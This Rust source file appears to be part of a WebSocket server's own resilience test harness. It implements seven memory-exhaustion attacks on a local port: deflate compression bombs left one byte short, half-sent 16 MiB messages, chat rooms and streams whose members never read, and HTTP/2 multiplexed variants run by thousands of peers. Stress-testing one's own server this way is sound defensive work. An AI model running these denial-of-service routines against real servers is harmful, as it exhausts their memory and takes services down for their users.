//! Attacks: peers that make the server hold much memory for few bytes of theirs.

use std::{io::Write, net::TcpStream, thread, time::Duration};

use anyhow::Result;
use flate2::{Compress, Compression, FlushCompress};

use super::{
    client::open,
    http2::{Connection, STREAMS},
};
use crate::{
    frame::{Opcode, masked},
    open::DEFLATE,
};

/// Bytes of a message: the server's default limit.
const MESSAGE: usize = 16 << 20;
/// Masking key that leaves the payload as it is.
const NO_MASK: [u8; 4] = [0; 4];

/// Kind of attack.
pub(super) struct Attack {
    /// Name for `--only`.
    pub(super) name: &'static str,
    /// Description in the report.
    pub(super) title: &'static str,
    /// Peers at full size.
    pub(super) peers: usize,
    /// Attack of a port by this number of peers. They stay connected until dropped.
    pub(super) perform: fn(u16, usize) -> Result<Vec<TcpStream>>,
}

/// All attacks. Each is ten times as large as one that once took gigabytes.
pub(super) static ATTACKS: &[Attack] = &[
    Attack {
        name: "half-sent",
        title: "Compressed messages of 16 MiB, sent but for a byte",
        peers: 2_400,
        perform: half_sent,
    },
    Attack { name: "upload", title: "Messages of 16 MiB, half sent", peers: 200, perform: upload },
    Attack {
        name: "chat",
        title: "One message of 16 MiB to members that do not read",
        peers: 1_500,
        perform: chat,
    },
    Attack {
        name: "rooms",
        title: "A message of 16 MiB in each room of two, one of whom does not read",
        peers: 1_500,
        perform: rooms,
    },
    Attack {
        name: "stream",
        title: "Streams of 16 MiB messages that nobody reads",
        peers: 1_500,
        perform: stream,
    },
    Attack {
        name: "compression",
        title: "Idle connections with the state of compression",
        peers: 3_000,
        perform: compression,
    },
    Attack {
        name: "http2",
        title: "Over HTTP/2, 100 a connection: the first attack, and streams that nobody reads",
        peers: 2_000,
        perform: http2,
    },
];

/// Compressed messages whose last byte is missing: inflated, they are 16 MiB each.
fn half_sent(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let bomb = compressed(&vec![0; MESSAGE - 1]);
    let mut held = open_all(port, peers, "/echo", DEFLATE)?;
    for peer in &mut held {
        // A peer may have been closed before all is sent.
        let _ = peer.write_all(&bomb[..bomb.len() - 1]);
    }
    Ok(held)
}

/// Uncompressed messages, half sent.
fn upload(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let message = masked(Opcode::Binary, &vec![7; MESSAGE], NO_MASK);
    let mut held = open_all(port, peers, "/echo", "")?;
    for peer in &mut held {
        let _ = peer.write_all(&message[..MESSAGE / 2]);
    }
    Ok(held)
}

/// One room of members that do not read, half of them compressed, and one large message to all.
fn chat(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let bomb = compressed(&vec![0; MESSAGE]);
    let mut held = open_all(port, peers / 2, "/chat/room", "")?;
    held.extend(open_all(port, peers - peers / 2, "/chat/room", DEFLATE)?);
    let mut sender = open(port, "/chat/room", DEFLATE)?;
    sender.write_all(&bomb)?;
    held.push(sender);
    Ok(held)
}

/// Rooms of two, with a large message in each to a member that does not read.
fn rooms(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let bomb = compressed(&vec![0; MESSAGE]);
    let mut held = Vec::new();
    for number in 0..peers / 2 {
        let path = format!("/chat/{number}");
        held.push(open(port, &path, "")?);
        // Compression is declined once memory is short.
        let mut sender = open(port, &path, DEFLATE)?;
        let _ = sender.write_all(&bomb);
        held.push(sender);
    }
    Ok(held)
}

/// Streams of large messages to peers that do not read.
fn stream(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    open_all(port, peers, "/stream?size=16MiB&rate=1/h", "")
}

/// Idle connections, each with the compression state of one message.
fn compression(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let text = (0..2_000_u32).map(|number| b'a' + (number * number % 23).to_le_bytes()[0]);
    let message = compressed(&text.collect::<Vec<_>>());
    let mut held = open_all(port, peers, "/echo", DEFLATE)?;
    for peer in &mut held {
        let _ = peer.write_all(&message);
    }
    // The answers are read by none, and few.
    thread::sleep(Duration::from_secs(1));
    Ok(held)
}

/// Half-sent messages and streams that are not read, 100 to a connection.
fn http2(port: u16, peers: usize) -> Result<Vec<TcpStream>> {
    let bomb = compressed(&vec![0; MESSAGE - 1]);
    let mut held = Vec::new();
    for _ in 0..peers.div_ceil(STREAMS) {
        let mut connection = Connection::open(port)?;
        for number in 0..STREAMS {
            let attacked = if number % 2 == 0 {
                let stream = connection.open_websocket("/echo", true);
                stream.and_then(|stream| connection.send(stream, &bomb[..bomb.len() - 1]))
            } else {
                connection.open_websocket("/stream?size=16MiB&rate=max", false).map(drop)
            };
            // Closed for memory, it ends with all that it carries.
            if attacked.is_err() {
                break;
            }
        }
        held.push(connection.into_stream());
    }
    Ok(held)
}

/// Opens WebSockets at a path, with more header lines.
fn open_all(port: u16, peers: usize, path: &str, lines: &str) -> Result<Vec<TcpStream>> {
    (0..peers).map(|_| open(port, path, lines)).collect()
}

/// Frame of a whole message, compressed as far as possible.
fn compressed(message: &[u8]) -> Vec<u8> {
    /// End of a sync flush, which is left out (RFC 7692 section 7.2.1).
    const TAIL: usize = 4;
    let mut payload = Vec::with_capacity(message.len() / 100 + 4_096);
    // Compressing into a large enough buffer cannot fail.
    let _ = Compress::new(Compression::best(), false).compress_vec(
        message,
        &mut payload,
        FlushCompress::Sync,
    );
    payload.truncate(payload.len() - TAIL);
    masked(Opcode::Compressed, &payload, NO_MASK)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_of_zeros_is_a_thousand_times_as_large_as_its_frame() {
        let bomb = compressed(&vec![0; MESSAGE]);
        assert_eq!(bomb[..2], [0xc2, 0xfe]);
        assert!(bomb.len() < MESSAGE / 1_000, "{}", bomb.len());
    }
}
